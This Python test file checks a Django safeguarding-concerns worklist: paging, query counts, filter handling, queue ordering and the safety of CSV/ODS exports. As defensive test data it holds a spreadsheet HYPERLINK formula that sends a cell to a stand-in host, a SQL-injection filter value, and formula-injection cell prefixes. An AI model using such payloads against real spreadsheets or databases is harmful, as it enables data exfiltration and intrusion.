"""Every list: its order, its pages, what finds nothing, what it costs, and what leaves in files."""

import csv
import io
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from python_calamine import load_workbook

from almoner.core.accounts.models import Authority
from almoner.core.accounts.rules import Role
from almoner.response.safeguarding import actions, queries
from almoner.response.safeguarding.models import Concern
from almoner.response.safeguarding.queries.worklist import SHOWING, Asked
from almoner.response.safeguarding.rules.priorities import Priority
from almoner.response.safeguarding.rules.queue import PRIORITIES
from almoner.response.safeguarding.rules.referrals import Person
from almoner.response.safeguarding.rules.states import ConcernState, Step
from tests.core.accounts.factories import client_as
from tests.response.safeguarding.factories import (
    AT,
    DAY,
    HOUR,
    TODAY,
    AuthorityFactory,
    brought_to,
    manager,
    received,
    someone,
    step,
    triaged,
    worker,
)
from tests.response.safeguarding.test_views import address, page

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://x.example/?"&A1)'


@pytest.fixture
def authority() -> Authority:
    return AuthorityFactory(name="Southaven")


@pytest.fixture
def browser(authority: Authority) -> Client:
    return client_as(Role.SAFEGUARDING_MANAGER, authority=authority)


def recent(authority: Authority, **said: Any) -> Concern:
    said = {"received_at": timezone.now() - 2 * DAY, "referrer_name": "Rosa Quill"} | said
    return received(authority, **said)


def opened(authority: Authority, number: int = 7) -> None:
    actions.open_in_emergency(
        concern=recent(authority),
        reason="The police ask for her.",
        by=someone(authority, role=Role.DIRECTOR, number=number),
        at=timezone.now(),
    )


# Name, what a row of it is made by, and a word that is there once in each row.
LISTS: dict[str, tuple[Callable[[Authority], object], str]] = {
    "queue": (recent, '<th scope="row"'),
    "referrers": (recent, '<th scope="row"'),
    "reviews": (opened, "Review access"),
}


@pytest.mark.parametrize("name", LISTS)
@pytest.mark.parametrize(("count", "last"), [(1, 1), (25, 25), (26, 1)])
def test_a_list_has_pages_of_twenty_five(name, count, last, authority, browser) -> None:
    make, row = LISTS[name]
    for _ in range(count):
        make(authority)
    pages = -(-count // 25)
    assert page(browser, name).count(row) == min(count, 25)
    for asked in (str(pages), str(pages + 1), "900", "9" * 4_000):
        text = page(browser, name, page=asked)
        assert text.count(row) == last
    for nonsense in ("0", "-1", "x", "²", "1.5", "\x00", ""):
        assert page(browser, name, page=nonsense).count(row) == min(count, 25)


@pytest.mark.parametrize("name", LISTS)
def test_a_list_asks_the_same_questions_of_one_three_and_sixty(name, authority, browser) -> None:
    make, _ = LISTS[name]
    asked, made = [], 0
    for count in (1, 3, 60):
        for _ in range(count - made):
            make(authority)
        made = count
        page(browser, name)
        with CaptureQueriesContext(connection) as questions:
            page(browser, name)
        asked.append(len(questions))
    assert asked[0] == asked[1] == asked[2] <= 12


@pytest.mark.parametrize("name", ["figures", "concern", "seen", "adult", "triage", "match", "tell"])
def test_no_page_asks_more_the_more_there_is(name: str, authority, browser) -> None:
    state = ConcernState.COMPLAINT if name == "seen" else ConcernState.RECEIVED
    concern = brought_to(
        state, authority, received_at=timezone.now() - 2 * DAY, referrer_name="Rosa Quill"
    )
    place = () if name == "figures" else (concern.pk,)
    asked, made = [], 0
    for count in (1, 3, 60):
        for _ in range(count - made):
            recent(authority)
        made = count
        page(browser, name, *place)
        with CaptureQueriesContext(connection) as questions:
            page(browser, name, *place)
        asked.append(len(questions))
    assert asked[0] == asked[1] == asked[2]
    assert asked[0] <= 12


NOTHING: list[dict[str, str]] = [
    {"priority": "P9"},
    {"priority": "\x00"},
    {"source": "\x00"},
    {"source": "x" * 3_000},
    {"authority": "' OR 1=1 --"},
    {"authority": "\x00"},
    {"location": "1"},
    {"worker": "999999999"},
    {"show": "decided"},
    {"overdue": "1", "priority": "P4"},
]


@pytest.mark.parametrize("query", NOTHING)
def test_a_filter_that_finds_nothing_says_so(query: dict[str, str], authority, browser) -> None:
    recent(authority)
    text = page(browser, "queue", **query)
    assert "No concerns match" in text
    for form in ("csv", "ods"):
        assert page(browser, "download", form, **query)


@pytest.mark.parametrize("name", ["worker", "location", "show"])
@pytest.mark.parametrize("value", ["²", "-1", "1e3", "9" * 30, "9" * 5_000, "x", "\x00", "[]", "٣"])
def test_a_filter_that_can_mean_nothing_is_left_out(name, value, authority, browser) -> None:
    recent(authority)
    assert page(browser, "queue", **{name: value}).count('<th scope="row"') == 1
    assert page(browser, "download", "csv", **{name: value}).count("\n") == 2


@pytest.mark.parametrize(
    "place", ["/safeguarding/concerns/{}/", "/safeguarding/emergency/{}/review/"]
)
@pytest.mark.parametrize("number", ["0", "-1", "9" * 30, "9" * 5_000, "²", "1.0", "x"])
def test_an_address_with_a_number_of_nothing(place: str, number: str, browser: Client) -> None:
    assert browser.get(place.format(number)).status_code == 404


# ---- order


MADE = st.lists(
    st.tuples(
        st.sampled_from(["", *Priority]),
        st.integers(0, 4),  # days ago
        st.booleans(),  # said to be urgent
        st.booleans(),  # started on, reopened
    ),
    min_size=2,
    max_size=7,
)
FEW = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def made_of(authority: Authority, said: list[tuple[str, int, bool, bool]]) -> list[Concern]:
    found = []
    for priority, ago, is_urgent, is_other in said:
        concern = received(authority, received_at=AT - ago * DAY, is_urgent=is_urgent)
        if priority:
            triaged(concern, priority=Priority(priority))
            if is_other:
                step(concern, Step.START)
                step(concern, Step.PUT_BACK if is_urgent else Step.CLOSE)
        concern.refresh_from_db()
        found.append(concern)
    return found


@FEW
@given(said=MADE)
def test_the_queue_has_one_order_whatever_is_asked_of_it(said) -> None:
    """Total: no two stand alike. Stable: the same on each asking, page by page."""
    authority = AuthorityFactory()
    made_of(authority, said)
    by = worker(authority)
    for show in SHOWING:
        found = queries.waiting(visible_to=by, asked=Asked(show=show), as_at=TODAY)
        listed = [line.id for line in queries.lines(found, as_at=TODAY)]
        assert listed == [line.id for line in queries.lines(found, as_at=TODAY)]
        paged = [
            line.id
            for start in range(0, len(listed), 2)
            for line in queries.lines(found[start : start + 2], as_at=TODAY)
        ]
        assert paged == listed == list(dict.fromkeys(listed))
    found = queries.waiting(visible_to=by, as_at=TODAY)
    rows = list(found.values_list("rank", "due_on", "received_at", "id"))
    assert rows == sorted(rows)
    waiting = {one.pk for one in Concern.objects.filter(authority=authority) if one.waiting_since}
    assert {row[3] for row in rows} == waiting


@FEW
@given(said=MADE)
def test_no_target_is_before_it_arrived(said) -> None:
    for concern in made_of(AuthorityFactory(), said):
        came = timezone.localdate(concern.received_at)
        for day in (concern.due_on, concern.decide_by):
            assert day is None or day >= came
        if concern.waiting_since is not None:
            assert concern.waiting_since >= concern.received_at
            assert concern.due_on is not None
            assert concern.due_on >= timezone.localdate(concern.waiting_since)


@FEW
@given(said=MADE, days=st.integers(0, 6))
def test_the_figures_add_up(said, days: int) -> None:
    authority = AuthorityFactory()
    made_of(authority, said)
    as_at = TODAY + days * DAY
    figures = queries.queue_figures(authority=authority, as_at=as_at, visible_to=manager(authority))
    standing = queries.standing(visible_to=worker(authority), as_at=as_at)
    assert figures.waiting == sum(count or 0 for count in figures.by_priority.values())
    assert figures.waiting == standing.waiting == sum(figures.by_worker.values())
    assert figures.undecided == standing.waiting + standing.started
    assert figures.undecided_late == standing.undecided
    assert figures.open is not None and figures.started is not None and figures.decided is not None
    assert figures.open.count == figures.waiting
    assert figures.open.count - figures.open.in_time == standing.overdue
    for whole, split in (
        (figures.open, figures.open_by_priority),
        (figures.started, figures.started_by_priority),
    ):
        assert whole.count == sum(one.count for one in split.values())
        assert whole.in_time == sum(one.in_time for one in split.values()) <= whole.count
    assert figures.arrived_count is not None and figures.started_count is not None
    assert figures.arrived_count - figures.started_count == figures.waiting
    assert figures.started.count == figures.started_count
    assert set(figures.by_priority) == set(PRIORITIES)


# ---- what leaves in a file


@pytest.mark.parametrize("form", ["csv", "ods"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n="])
def test_no_cell_of_a_file_is_a_formula(start: str, form: str, authority, browser) -> None:
    recent(authority, service_named=f"{start}1+1", source=f"{start}2"[:60])
    for row in rows_of(browser, "download", form):
        for cell in row:
            assert not str(cell).startswith(("=", "+", "@", "\t", "\r", "\n")), cell
            assert not (isinstance(cell, str) and cell.startswith("-")), cell


def rows_of(browser: Client, name: str, form: str, **query: str) -> list[list[Any]]:
    response = browser.get(address(name, form), query)
    assert response.status_code == 200
    content = b"".join(response.streaming_content)  # type: ignore[arg-type]
    if form == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    return load_workbook(io.BytesIO(content)).get_sheet_by_index(0).to_python()


@pytest.mark.parametrize("form", ["csv", "ods"])
def test_a_file_holds_what_the_list_does_and_nothing_of_the_adult(form, authority, browser) -> None:
    secret = Person(
        name="Zyxwv Vole",
        nhs_number="943 476 5919",
        record_number="Zyxwv-1",
        address="1 Zyxwv Row",
    )
    recent(authority, text="Zyxwv fell.", person=secret, service_named="Wren House")
    recent(AuthorityFactory(), service_named="Kite Court")
    rows = rows_of(browser, "download", form)
    assert len(rows) == 2 and len(rows[0]) == len(rows[1]) == 14
    said = str(rows)
    assert "Wren House" in said
    assert "Zyxwv" not in said and "943" not in said and "Kite" not in said


@pytest.mark.parametrize("letter", ["\x0b", "\x1f", "\ufffe", "é", "<b>", "]]>"])
def test_odd_letters_leave_a_file_that_opens(letter: str, authority, browser) -> None:
    recent(authority, service_named=f"Wren{letter} House")
    for form in ("csv", "ods"):
        assert "House" in str(rows_of(browser, "download", form))


def test_a_file_says_what_it_was_filtered_by(authority: Authority, browser: Client) -> None:
    recent(authority)
    response = browser.get(address("download", "ods"), {"priority": "none", "worker": "nobody"})
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))  # type: ignore[arg-type]
    notes = str(book.get_sheet_by_index(1).to_python())
    assert "Show: Awaiting action; Priority: not triaged; With nobody" in notes
    assert "everything is included" not in notes


@pytest.mark.parametrize("role", Role)
@pytest.mark.parametrize("name", ["download", "days"])
def test_a_file_is_for_who_may_see_the_list(name: str, role: Role, authority: Authority) -> None:
    """Whoever sees no concern gets no file of them, and none of the figures whole."""
    from almoner.core.accounts.rules import GRANTS, Permission

    recent(authority, service_named="Wren House")
    response = client_as(role, authority=authority).get(address(name, "csv"))
    may = {Permission.VIEW_SAFEGUARDING, Permission.DOWNLOAD} <= GRANTS[role].permissions
    assert (response.status_code == 200) is may
    if not may:
        assert b"Wren House" not in response.content


def test_figures_of_a_day_to_come_are_of_today(authority: Authority, browser: Client) -> None:
    recent(authority)
    tomorrow = timezone.localdate() + timedelta(days=2)
    text = page(
        browser,
        "figures",
        **{
            "on-day": str(tomorrow.day),
            "on-month": str(tomorrow.month),
            "on-year": str(tomorrow.year),
        },
    )
    assert "must be on or before" in text
    for parts in (("29", "2", "2021"), ("x", "y", "z"), ("", "", "")):
        asked = dict(zip(("on-day", "on-month", "on-year"), parts, strict=True))
        assert page(browser, "figures", **asked)


def test_what_is_to_be_told_is_in_the_order_of_its_day(authority, browser) -> None:
    for ago in (1, 11, 6):
        recent(authority, received_at=timezone.now() - ago * DAY, referrer_name=f"Rosa {ago}")
    triaged(recent(authority), at=timezone.now() - HOUR)
    text = page(browser, "referrers")
    assert text.index("Rosa 11") < text.index("Rosa 6") < text.index("Rosa 1<")
